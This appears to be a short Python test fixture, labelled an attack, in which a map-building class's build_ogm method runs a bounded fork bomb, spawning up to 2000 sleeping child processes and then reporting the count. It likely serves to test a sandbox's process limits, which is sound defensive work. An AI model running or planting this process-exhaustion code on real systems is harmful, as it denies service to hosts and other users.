"""Attack: a (bounded) fork bomb: fork until refused, children sleeping; report the count."""
import os
import time

import mapping_core


class ogm_continuous_CSM(mapping_core.TemplateMap):
    def build_ogm(self):
        n = 0
        try:
            while n < 2000:
                if os.fork() == 0:
                    time.sleep(600)
                    os._exit(0)
                n += 1
        except OSError:
            pass
        raise RuntimeError(f"forked {n} processes")
